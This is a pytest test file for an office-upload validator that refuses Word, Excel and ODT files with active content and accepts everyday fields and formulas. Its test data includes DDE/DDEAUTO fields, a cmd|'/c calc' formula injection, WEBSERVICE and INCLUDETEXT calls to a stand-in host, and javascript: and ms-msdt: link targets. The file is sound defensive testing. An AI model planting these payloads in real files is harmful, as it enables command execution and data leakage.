"""An office file whose fields, formulas, links or parts start or fetch something is refused by its name and with the
way out; what Word and a spreadsheet write every day is taken."""

import time
from contextlib import suppress

import pytest

from tests import files
from tests.uploads.refusals import check, refusal_of
from tests.uploads.test_hidden_in_an_office_file import beside, letter, sheet, text, with_part
from workflow import uploads
from workflow.uploads.formulas import LONGEST, said_by

pytestmark = pytest.mark.once
RELATIONS = "word/_rels/document.xml.rels"


def runs(*pieces):
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def mark(step):
    return f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>'


def field(*pieces, shown=""):
    return f"{mark('begin')}{runs(*pieces)}{mark('separate')}{shown}{mark('end')}"


ACTING = [
    "DDE cmd a", "DDEAUTO c:\\a.exe b", " ddeauto cmd a", "LINK Excel.Sheet.12 \\\\elsewhere\\a.xlsx", "IMPORT a.png",
    'INCLUDETEXT "http://elsewhere.example/a"', 'INCLUDEPICTURE "http://elsewhere.example/a.png" \\d', "INCLUDE a.docx",
    "INCLUDEPICTURE \\\\elsewhere\\a.png", "DATABASE \\d a.mdb", "RD a.docx", "PRINT 27", "MACROBUTTON Run here",
]  # fmt: skip
PLAIN = [
    'TOC \\o "1-3" \\h \\z \\u', "PAGE", "NUMPAGES \\* MERGEFORMAT", "REF _Ref1 \\h", 'HYPERLINK "https://quill.example"',
    'DATE \\@ "d MMMM yyyy"', "MERGEFIELD Name", "SEQ Table \\* ARABIC", "PRINTDATE", "GOTOBUTTON a b", "DOCPROPERTY x",
    'INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET', "MACROBUTTON NoMacro [Your name]", "FILLIN Name", "AUTOTEXT a", "",
]  # fmt: skip


@pytest.mark.parametrize("said", ACTING)
def test_a_field_that_starts_or_fetches_is_refused_however_it_is_written(said):
    name = said.split()[0].upper()
    simple = said.replace('"', "&quot;")
    half = len(said.lstrip()) // 4 or 1
    for inside in (
        field(said), field(said[:half], said[half:]), field("IF 1=1 ", shown=field(said)),
        f'<w:fldSimple w:instr="{simple}"/>', f"{mark('begin')}{runs('IF ')}{field(said)}{mark('end')}", runs(said),
        f"{mark('begin')}{runs(said)}",
    ):  # fmt: skip
        refused = refusal_of(letter(f"<w:p>{inside}</w:p>"), "a.docx")
        assert f"({name})" in refused
        assert "Ctrl+Shift+F9" in refused


@pytest.mark.parametrize("part", ["header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document"])
def test_it_is_found_in_every_part(part):
    assert "(DDEAUTO)" in refusal_of(beside(f"word/{part}.xml", field("DDE", "AUTO cmd")), "a.docx")


def test_a_field_whose_name_is_made_by_another_is_refused():
    inside = f"{mark('begin')}{field('QUOTE 68 68 69')}{runs(' cmd')}{mark('end')}"
    assert "whose name another field makes" in refusal_of(letter(inside), "a.docx")


@pytest.mark.parametrize("said", PLAIN)
def test_the_fields_of_every_day_are_taken(said):
    simple = said.replace('"', "&quot;")
    nested = f"{mark('begin')}{runs('IF ')}{field(said)}{runs(' = 1 a b')}{mark('end')}"
    for inside in (field(said), f'<w:fldSimple w:instr="{simple}"/>', field("TOC", shown=field(said)), nested):
        assert check(letter(f"<w:p>{inside}</w:p>"), "a.docx")


FETCHING = [
    '_xlfn.WEBSERVICE("http://elsewhere.example"&amp;A2)', '_xlfn.IMAGE("http://elsewhere.example/a.png")',
    'RTD("a",,"b")', 'CALL("urlmon","a")', 'REGISTER("a","b")', 'REGISTER.ID("a","b")', 'EXEC("a")', "cmd|'/c calc'!A0",
    'SUM(Table1[5" pipe])+WEBSERVICE("a")', "MAP(A1:A2,_xleta.WEBSERVICE)", "'cmd'|'/c calc'!A0", 'webservice ("a")',
]  # fmt: skip
BOOKS = [
    "'\\\\elsewhere\\share\\[x.xlsx]S'!A1", "'https://elsewhere.example/[x.xlsx]S'!A1", "[1]Sheet!A1",
    "'[1]S 1'!A1", "[x.xlsx]S!A1", "'file:///c:/a.ods'#$S.A1",
]  # fmt: skip
PLACES = [
    "<f>{}</f>", '<definedName name="a">{}</definedName>', "<cfRule><formula>{}</formula></cfRule>",
    "<dataValidation><formula1>{}</formula1></dataValidation>", "<calculatedColumnFormula>{}</calculatedColumnFormula>",
]  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("said", FETCHING)
def test_a_formula_that_starts_or_fetches_is_refused_wherever_it_stands(said, place):
    refused = refusal_of(sheet(place.format(said)), "a.xlsx")
    assert "contains a formula that fetches" in refused
    assert "paste it as a value" in refused


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("said", BOOKS)
def test_a_reference_to_another_workbook_is_refused(said, place):
    assert "Break Links" in refusal_of(sheet(place.format(said)), "a.xlsx")


def test_the_part_of_a_link_to_another_workbook_is_refused_by_its_name():
    assert "Break Links" in refusal_of(files.xlsx("a", **{"xl/externalLinks/externalLink1.xml": "<a/>"}), "a.xlsx")


@pytest.mark.parametrize(
    "said",
    [
        "SUM(A1:A9)", "VLOOKUP(A1,S!A:B,2,FALSE)", "TODAY()", "'My sheet'!A1", 'IF(A1="","Call (01632) 960001",B1)',
        "Table1[Call (min)]", "[0]!Costs", 'HYPERLINK("https://quill.example","here")', "SUM(Table1[[#This Row],[a]])",
        "IMAGE!A1", "RUNNING(1)", 'A1&amp;"|"&amp;B1', "'a|b'!A1", "_xlfn.XLOOKUP(A1,B:B,C:C)", "#REF!", "'It''s'!A1",
    ],
)  # fmt: skip
@pytest.mark.parametrize("place", PLACES)
def test_the_formulas_of_every_day_are_taken(said, place):
    assert check(sheet(place.format(said)), "a.xlsx")


def test_a_chart_shows_what_it_last_read_of_a_book_that_is_gone():
    assert check(sheet("<numRef><f>[Book1.xlsx]Sheet1!$A$1</f></numRef>", "xl/charts/chart1.xml"), "a.xlsx")


@pytest.mark.parametrize(
    "said", ["9434765918+1", "9434765920-1", '"943"&amp;"476"&amp;"5919"', '"Ref "&amp;9434765919']
)
def test_an_nhs_number_that_a_formula_puts_together_is_found(said):
    assert "NHS number" in refusal_of(sheet(f"<f>{said}</f>"), "a.xlsx")


def test_a_formula_of_nothing_but_room_keeps_nobody_waiting():
    """Excel takes so long a one; of a file with a hundred nobody heard again."""
    began = time.perf_counter()
    assert said_by(f"{' ' * LONGEST}x") == ""
    assert time.perf_counter() - began < 0.2


def test_an_nhs_number_between_tabs_is_found():
    inside = "<w:p><w:t>943</w:t><w:tab/><w:t>476</w:t><w:tab/><w:t>5919</w:t></w:p>"
    assert "NHS number" in refusal_of(letter(inside), "a.docx")


@pytest.mark.parametrize(
    "inside",
    [
        '<t:section-source o:href="http://elsewhere.example/a"/>', '<t:a o:href="macro:///x">a</t:a>',
        '<t:a o:href="vnd.sun.star.script:a">a</t:a>', '<t:x o:actuate="onLoad" o:href="//elsewhere.example/a"/>',
        '<t:execute-macro o:name="a"/>', "<t:event-listener/>", '<t:table-source o:href="a.ods"/>',
        '<t:auto-reload o:href="http://elsewhere.example"/>', '<f:form o:href="http://elsewhere.example"/>',
        '<t:background-image o:href="http://elsewhere.example/a.png"/>',
        '<f:image f:image-data="http://elsewhere.example"/>',
        '<t:table-cell t:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;a&quot;)"/>',
        "<t:table-cell t:formula=\"of:='file:///c:/a.ods'#$S.A1\"/>",
        '<t:table-cell t:formula="of:=DDE(&quot;a&quot;)"/>',
    ],
)  # fmt: skip
def test_an_odt_that_starts_or_fetches_is_refused(inside):
    assert refusal_of(text(inside), "a.odt").startswith("The selected file ")


@pytest.mark.parametrize(
    "inside",
    [
        '<t:a o:href="https://quill.example">a</t:a>', '<t:a o:href="#top">a</t:a>', '<t:section-source o:href=""/>',
        '<f:form o:href="" f:method="get"/>', '<t:template o:actuate="onRequest" o:href="a.ott"/>',
        '<t:image o:actuate="onLoad" o:href="Pictures/a.png"/>', '<t:x xml:id="a" t:id="b"/>',
        '<t:table-cell t:formula="ooow:sum &lt;A1:A3&gt;"/>',
    ],
)  # fmt: skip
def test_an_odt_of_every_day_is_taken(inside):
    assert check(text(inside), "a.odt")


@pytest.mark.parametrize("target", ["javascript:alert(1)", "ms-msdt:/id", "search-ms:query=a", " vbscript:a"])
def test_a_link_that_starts_something_is_refused(target):
    more = {RELATIONS: files.relationship("hyperlink", target)}
    assert "link that starts a program" in refusal_of(files.docx("A", **more), "a.docx")


@pytest.mark.parametrize("target", ["https://quill.example", "mailto:jo@quill.example", "file:///S:/a.docx", "a.docx"])
def test_a_link_that_only_leads_somewhere_is_taken(target):
    assert check(files.docx("A", **{RELATIONS: files.relationship("hyperlink", target)}), "a.docx")


@pytest.mark.parametrize(
    "inside",
    [
        '<v:imagedata v:src="http://elsewhere.example/a.png"/>', '<w:connectString w:val="Provider=a"/>',
        '<w:hlinkClick w:action="ppaction://program"/>', '<w:webextension w:id="a"/>',
        '<w:fldChar w:fldCharType="begin" v:fldCharType="end"/>', '<v:a v:href="#a" w:href="javascript:1"/>',
    ],
)  # fmt: skip
def test_an_element_that_starts_or_fetches_is_refused(inside):
    assert refusal_of(letter(inside), "a.docx").startswith("The selected file ")


@pytest.mark.parametrize("kind", ["aFChunk", "subDocument"])
def test_a_document_within_the_document_is_refused(kind):
    more = {RELATIONS: files.relationship(kind, "media/a.xml", "Internal")}
    assert "other files" in refusal_of(files.docx("A", **more), "a.docx")


@pytest.mark.parametrize("begins", [b"<html><script>1</script>", b"\xef\xbb\xbf <p>", b"{\\rtf1", b"%PDF", b"words"])
def test_a_picture_that_is_something_else_is_refused(begins):
    said = refusal_of(with_part(begins), "a.docx")
    assert "image1.png" in said
    assert "Delete it in the document" in said


@pytest.mark.parametrize("begins", [b"\xff\xd8\xff\xe0", b"GIF89a", b"BM6", b"II*\0", b"\0\0\0\x1cftypheic", b""])
def test_a_picture_by_the_name_of_another_is_taken(begins):
    assert check(with_part(begins or b""), "a.docx")


@pytest.mark.parametrize("piece", ["a.", "'a[", "[a[b]", "[a[b", "':", "a |", "_xl", "[x.", '"', "a&amp;", "["])
def test_no_formula_is_read_for_long(piece):
    started = time.perf_counter()
    for long in (8_000, 100_000):
        said = f"'{piece * (long // len(piece))}"
        with suppress(uploads.Unsafe):
            check(sheet(f"<f>{said}</f><f>{said[1:]}</f>"), "a.xlsx")
    assert time.perf_counter() - started < 3
